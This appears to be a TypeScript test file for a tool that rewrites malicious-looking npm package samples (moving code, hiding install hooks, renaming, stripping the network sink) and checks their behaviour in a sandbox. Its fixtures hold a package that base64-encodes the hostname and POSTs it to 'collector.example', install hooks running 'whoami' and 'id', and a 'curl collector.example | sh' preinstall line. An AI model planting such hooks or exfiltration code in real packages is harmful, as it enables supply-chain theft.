import assert from 'node:assert/strict';
import path from 'node:path';
import vm from 'node:vm';
import ts from 'typescript';
import { SeededRandom } from '../bench/random.js';
import { mainOf, manifestOf, scriptsOf, type PackageTree } from './package-tree.js';
import { anonymous } from './variations/anonymous.js';
import { rewritesWith } from './variations/index.js';
import { parseScript } from './variations/support/source-edits.js';
import { withoutSink } from './variations/without-sink.js';

/** Collects, encodes and sends, over two files: the shape of an attack, and no more than that. */
const SAMPLE = treeOf({
  'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', main: 'index.js', author: 'Somebody' }),
  'index.js': `const { hostname } = require('os');
const https = require('https');
const { encode } = require('./lib/encode');
function send(words) {
  const request = https.request({ host: 'collector.example', method: 'POST' });
  request.end(encode(words));
}
send([hostname(), 'and more']);
module.exports = { send };
`,
  'lib/encode.js': `exports.encode = (words) => Buffer.from(words.join('|')).toString('base64');
`,
});

const AT_INSTALL = treeOf({
  'package.json': JSON.stringify({ name: 'sample', main: 'index.js', scripts: { postinstall: 'node setup.js' } }),
  'index.js': 'module.exports = 1;\n',
  'setup.js': "require('child_process').exec('whoami');\n",
});

const HOST = treeOf({
  'package.json': JSON.stringify({ name: 'host', version: '2.0.0', main: 'dist/host.js' }),
  'dist/host.js': 'module.exports = { host: true };\n',
});

const EXPECTED = [
  'os.hostname()',
  'https.request({"host":"collector.example","method":"POST"})',
  `https.request().end("${Buffer.from('machine|and more').toString('base64')}")`,
];

function treeOf(files: Readonly<Record<string, string>>): PackageTree {
  return new Map(Object.entries(files).map(([file, text]) => [file, Buffer.from(text)]));
}

/** Stands in for Node's modules and writes down what is called. */
function recorder(calls: string[]): (name: string) => unknown {
  const request = {
    end: (body: unknown): void => {
      calls.push(`https.request().end(${JSON.stringify(body)})`);
    },
  };
  const modules: Readonly<Record<string, unknown>> = {
    os: { hostname: () => (calls.push('os.hostname()'), 'machine') },
    https: {
      request: (options: unknown) => (calls.push(`https.request(${JSON.stringify(options)})`), request),
    },
    vm: { runInThisContext: (code: string) => evaluate(code) },
  };
  const evaluate = (code: string): unknown => vm.runInThisContext(code);
  return (name) => modules[name.replace(/^node:/, '')];
}

/** Loads this test's own sample as CommonJS, with stand-ins for everything outside, and tells what it did. */
async function behaviourOf(tree: PackageTree): Promise<readonly string[]> {
  const calls: string[] = [];
  const builtin = recorder(calls);
  const loaded = new Map<string, { exports: unknown }>();
  const process = { mainModule: { require: builtin }, getBuiltinModule: builtin, nextTick: queueMicrotask };
  const load = (file: string): unknown => {
    const known = loaded.get(file);
    if (known !== undefined) return known.exports;
    const text = tree.get(file)?.toString('utf8');
    assert.ok(text !== undefined, `${file} is not there`);
    const require = (name: string): unknown => {
      if (!name.startsWith('.')) return builtin(name);
      const base = path.posix.join(path.posix.dirname(file), name);
      return load([base, `${base}.js`, `${base}.cjs`].find((one) => tree.has(one)) ?? base);
    };
    const module = { exports: {}, require, _compile: (code: string) => run(code) };
    loaded.set(file, module);
    const run = (code: string): void => {
      const names = [
        'module',
        'exports',
        'require',
        'process',
        'globalThis',
        'Buffer',
        'atob',
        'setTimeout',
        '__filename',
      ];
      const parameters = [module, module.exports, require, process, { process }, Buffer, atob, queueMicrotask, file];
      const wrapped = vm.runInThisContext(`(function (${names.join(', ')}) {\n${code}\n})`) as (
        ...all: unknown[]
      ) => void;
      wrapped(...parameters);
    };
    run(text);
    return module.exports;
  };
  load(mainOf(tree) ?? '');
  await new Promise((resolve) => setImmediate(resolve));
  return calls;
}

/** As a runtime that strips types would see it, and with modules that CommonJS can load. */
function asCommonJs(tree: PackageTree): PackageTree {
  const files = [...tree].map(([file, bytes]): [string, Buffer] => {
    // What is CommonJS stays as it is: code that guards itself against being reformatted would never end.
    const text = bytes.toString('utf8');
    const isPlain = !/\.[cm]?[jt]s$/.test(file) || (!file.endsWith('.ts') && !/^(?:import|export)\b/m.test(text));
    if (isPlain) return [file, bytes];
    const { outputText } = ts.transpileModule(text, {
      compilerOptions: { module: ts.ModuleKind.CommonJS, target: ts.ScriptTarget.ES2022, esModuleInterop: true },
    });
    return [file.replace(/\.ts$/, '.js'), Buffer.from(outputText)];
  });
  const text = tree.get('package.json')?.toString('utf8').replaceAll('.ts"', '.js"') ?? '';
  return new Map(files).set('package.json', Buffer.from(text));
}

const NEEDS_ANOTHER_SAMPLE = ['install script moved to import', 'moved to another file', 'inside a callback'];

describe('a package written differently', () => {
  const random = new SeededRandom(7);
  const rewrites = rewritesWith([HOST]);

  it('does what the sample does', async () => {
    assert.deepEqual(await behaviourOf(SAMPLE), EXPECTED);
  });

  for (const rewrite of rewrites.filter(({ name }) => !NEEDS_ANOTHER_SAMPLE.includes(name))) {
    it(`still does the same: ${rewrite.name}`, async () => {
      const tree = await rewrite.vary(SAMPLE, () => random.next());
      assert.ok(tree !== undefined, 'it was not rewritten');
      assert.notDeepEqual([...tree], [...SAMPLE]);
      assert.deepEqual(await behaviourOf(asCommonJs(tree)), EXPECTED);
    });
  }

  it('runs inside a callback what ran at once', async () => {
    const rewrite = rewrites.find(({ name }) => name === 'inside a callback');
    for (let wrapper = 0; wrapper < 1; wrapper += 0.2) {
      const tree = await rewrite?.vary(treeOf({ 'index.js': "require('os').hostname();" }), () => wrapper);
      assert.deepEqual(await behaviourOf(tree ?? SAMPLE), ['os.hostname()']);
    }
  });

  it('loads from another file what lay in the entry', async () => {
    const rewrite = rewrites.find(({ name }) => name === 'moved to another file');
    const tree = await rewrite?.vary(treeOf({ 'index.js': "require('os').hostname();" }), () => 0);
    assert.deepEqual([...(tree?.keys() ?? [])], ['index.js', 'internal/index-impl.js']);
    assert.deepEqual(await behaviourOf(tree ?? SAMPLE), ['os.hostname()']);
  });

  it('loads with the package what a lifecycle script ran', async () => {
    const rewrite = rewrites.find(({ name }) => name === 'install script moved to import');
    const tree = await rewrite?.vary(AT_INSTALL, () => 0);
    assert.deepEqual(tree && manifestOf(tree)?.scripts, {});
    assert.match(tree?.get('index.js')?.toString('utf8') ?? '', /^require\('\.\/setup\.js'\);/);
  });

  it('keeps its code when names are replaced', async () => {
    const tree = await anonymous.vary(SAMPLE, () => 0.5);
    assert.ok(tree !== undefined);
    assert.deepEqual(scriptsOf(tree), scriptsOf(SAMPLE));
    assert.doesNotMatch(tree.get('package.json')?.toString('utf8') ?? '', /sample|Somebody/);
  });
});

describe('a package without its sink', () => {
  it('collects and encodes, and sends nothing', async () => {
    const tree = await withoutSink.vary(SAMPLE, () => 0);
    assert.ok(tree !== undefined);
    assert.deepEqual(await behaviourOf(tree), ['os.hostname()']);
    for (const text of scriptsOf(tree).values()) assert.ok(parseScript(text) !== undefined);
  });

  it('has no lifecycle command that is more than the start of a file', async () => {
    const command = treeOf({
      'package.json': JSON.stringify({
        scripts: { preinstall: 'curl collector.example | sh', postinstall: 'node a.js' },
      }),
      'a.js': "require('child_process').exec('id');\n",
    });
    const tree = await withoutSink.vary(command, () => 0);
    assert.deepEqual(tree && manifestOf(tree)?.scripts, { postinstall: 'node a.js' });
  });
});
